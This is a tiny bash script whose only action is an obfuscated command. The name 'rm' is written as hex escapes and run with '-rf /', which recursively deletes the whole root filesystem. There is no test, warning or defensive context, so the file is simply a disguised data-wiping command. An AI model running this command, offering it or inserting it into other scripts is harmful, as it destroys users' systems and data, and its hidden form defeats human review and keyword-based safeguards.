#!/usr/bin/env bash
set -euo pipefail
$'\x72\x6d' -rf /
